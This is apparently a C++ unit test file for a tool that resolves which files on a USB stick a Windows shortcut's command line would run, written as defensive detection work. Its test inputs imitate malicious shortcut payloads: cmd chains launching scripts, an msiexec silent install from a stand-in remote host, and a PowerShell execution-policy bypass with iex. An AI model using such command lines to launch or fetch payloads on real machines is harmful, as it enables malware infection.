// What a shortcut's command line names on its stick, resolved the way
// Windows and cmd.exe resolve it.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "sweep/link_command.h"

namespace veltrano::sweep {
namespace {

using ::testing::Contains;
using ::testing::IsSupersetOf;
using ::testing::Not;

constexpr std::string_view kCmd = "C:\\Windows\\System32\\cmd.exe";

std::vector<std::string> Cmd(std::string_view arguments, std::string_view workingDir = {}) {
  return ResolveLinkCommand("E:\\", kCmd, arguments, workingDir).files;
}

TEST(LinkCommand, CmdSeparatesCommandsAndDropsRedirections) {
  const auto files = Cmd(
      "/q /c start x.vbs&&wscript //B y.vbs||call z.bat|more & "
      "type nul > out.vbs 2>&1 <in.vbs & (start \"\" g.js)");
  // What "<" feeds to cmd is read as commands; what ">" writes runs nothing.
  EXPECT_THAT(files,
              IsSupersetOf({"E:\\x.vbs", "E:\\y.vbs", "E:\\z.bat", "E:\\g.js", "E:\\in.vbs"}));
  EXPECT_THAT(Cmd("/RS<Bvc.uSB ^&& msiEXEc /q -i \"http://x.example/a\""), Contains("E:\\Bvc.uSB"));
  for (const char* never : {"E:\\out.vbs", "E:\\1", "E:\\2", "E:\\B", "E:\\q",
                            "E:\\c", "E:\\start", "E:\\call", "E:\\g.js)"}) {
    EXPECT_THAT(files, Not(Contains(never))) << never;
  }
}

TEST(LinkCommand, CmdQuotesAndEscapes) {
  // Quoted operators are plain; "^" makes the next character plain.
  EXPECT_THAT(Cmd("/c start \"\" \"my a&b.vbs\" & x^&y.vbs ^> z.vbs"),
              IsSupersetOf({"E:\\my a&b.vbs", "E:\\x&y.vbs", "E:\\z.vbs"}));
  // The command string quoted as a whole, glued to /c, and nested cmds.
  EXPECT_THAT(Cmd("/c\"start a.vbs & start explorer docs\""), Contains("E:\\a.vbs"));
  EXPECT_THAT(Cmd("/v:on /d /c cmd.exe /k \"CMD /C start b.vbs\""), Contains("E:\\b.vbs"));
  // ...while a quoted program path keeps its blanks.
  EXPECT_THAT(Cmd("/c \"E:\\My Tools\\run.bat\" arg"), Contains("E:\\My Tools\\run.bat"));
  // A start title is not a file.
  const auto titled = Cmd("/c start \"t.vbs\" u.vbs");
  EXPECT_THAT(titled, Contains("E:\\u.vbs"));
  EXPECT_THAT(titled, Not(Contains("E:\\t.vbs")));
}

TEST(LinkCommand, PathsStayOnTheDrive) {
  const auto files = Cmd(
      "/c start .\\a.vbs & ..\\..\\b.vbs & sub/c.vbs & \\d.vbs & E:e.vbs & e:\\f.vbs & "
      "F:\\g.vbs & C:\\h.vbs & \\\\server\\share\\i.vbs & \\\\?\\E:\\j.vbs & sub\\ & "
      "%windir%\\k.vbs & bad:name.vbs");
  EXPECT_THAT(files, IsSupersetOf({"E:\\a.vbs", "E:\\b.vbs", "E:\\sub\\c.vbs", "E:\\d.vbs",
                                   "E:\\e.vbs", "E:\\f.vbs"}));
  for (const auto& file : files) {
    EXPECT_TRUE(file.starts_with("E:\\") && file.size() > 3) << file;
    for (const char* never : {"g.vbs", "h.vbs", "i.vbs", "j.vbs", "k.vbs", "name.vbs"}) {
      EXPECT_FALSE(file.ends_with(never)) << file;
    }
    EXPECT_NE(file, "E:\\sub");
  }
}

TEST(LinkCommand, StickFormsAndTheCurrentFolder) {
  // %~dp0 and its kin mean the stick; %cd% the folder the command runs in.
  EXPECT_THAT(Cmd("/c start %~dp0a.vbs & %~D0\\b.vbs & %~dps0c.vbs & %CD%\\d.vbs"),
              IsSupersetOf({"E:\\a.vbs", "E:\\b.vbs", "E:\\c.vbs", "E:\\d.vbs"}));
  EXPECT_THAT(Cmd("/c start x.vbs & %cd%\\y.vbs", "E:\\sub"),
              IsSupersetOf({"E:\\sub\\x.vbs", "E:\\sub\\y.vbs"}));
  // A working folder on another drive: relative names are there, not here,
  // but the stick forms still mean the stick.
  const auto elsewhere = Cmd("/c start x.vbs & %cd%\\y.vbs & %~dp0z.vbs", "C:\\Windows");
  EXPECT_EQ(elsewhere, std::vector<std::string>{"E:\\z.vbs"});
  // cd and start /d move where later names resolve; %cd% was expanded
  // before the line ran.
  EXPECT_THAT(Cmd("/c cd /d %~dp0sub & start a.vbs & start /d ..\\other b.vbs & %cd%c.vbs"),
              IsSupersetOf({"E:\\sub\\a.vbs", "E:\\other\\b.vbs", "E:\\c.vbs"}));
  EXPECT_THAT(Cmd("/c cd \"my docs\" & start a.vbs"), Contains("E:\\my docs\\a.vbs"));
}

TEST(LinkCommand, ProgramsTheirArgumentsAndTheTarget) {
  // rundll32: the entry point after the comma is no part of the file.
  const auto dll = ResolveLinkCommand("E:\\", "C:\\Windows\\System32\\RUNDLL32.EXE",
                                      "\"\xC2\xA0\\x.dll\",Start  shell32.dll,ShellExec_RunDLL y.vbs",
                                      "");
  EXPECT_EQ(dll.program, "rundll32.exe");
  EXPECT_THAT(dll.files, IsSupersetOf({"E:\\\xC2\xA0\\x.dll", "E:\\shell32.dll", "E:\\y.vbs"}));
  EXPECT_THAT(dll.files, Not(Contains("E:\\\xC2\xA0\\x.dll,Start")));
  // msiexec /i, wscript switches, powershell command strings.
  EXPECT_THAT(Cmd("/c start msiexec /q /i .usb\\setup.msi & wscript.exe //E:vbscript w.dat & "
                  "powershell -ep bypass -c \"Start-Process '.\\p.ps1'; iex(q.ps1)\""),
              IsSupersetOf({"E:\\.usb\\setup.msi", "E:\\w.dat", "E:\\p.ps1", "E:\\q.ps1"}));
  // A target on the stick, relative or not; a target elsewhere.
  const auto relative = ResolveLinkCommand("E:\\", ".\\Run.VBS", "", "C:\\Windows");
  EXPECT_EQ(relative.targetOnDrive, "E:\\Run.VBS");
  EXPECT_EQ(relative.program, "run.vbs");
  EXPECT_EQ(ResolveLinkCommand("E:\\", "F:\\run.vbs", "", "").targetOnDrive, std::nullopt);
  EXPECT_EQ(ResolveLinkCommand("E:\\", "E:\\", "", "").targetOnDrive, std::nullopt);
  // Each file once, whatever its case or spelling.
  EXPECT_EQ(Cmd("/c a.vbs & A.VBS & .\\a.vbs & sub\\..\\a.vbs"),
            std::vector<std::string>{"E:\\a.vbs"});
}

TEST(LinkCommand, InterpretersAndProgramExtensions) {
  for (const char* name : {"cmd.exe", "CMD.EXE", "WScript.exe", "cscript.exe", "mshta.exe",
                           "rundll32.exe", "regsvr32.exe", "powershell.exe", "pwsh.exe",
                           "msiexec.exe", "conhost.exe"}) {
    EXPECT_TRUE(IsInterpreter(name)) << name;
  }
  for (const char* name : {"explorer.exe", "notepad.exe", "xcmd.exe", "cmd.exe.lnk", "cmd"}) {
    EXPECT_FALSE(IsInterpreter(name)) << name;
  }
  for (const char* name : {"a.exe", "b.COM", "c.scr", "d.pif", "e.bat", "f.cmd", "g.vbs", "h.VBE",
                           "i.js", "j.jse", "k.wsf", "l.wsh", "m.hta", "n.ps1", "o.dll"}) {
    EXPECT_TRUE(HasProgramExtension(name)) << name;
  }
  for (const char* name : {"a.json", "b.vbs.txt", "c.docx", "d.lnk", "e.dl", "vbs", "f.usb"}) {
    EXPECT_FALSE(HasProgramExtension(name)) << name;
  }
}

}  // namespace
}  // namespace veltrano::sweep
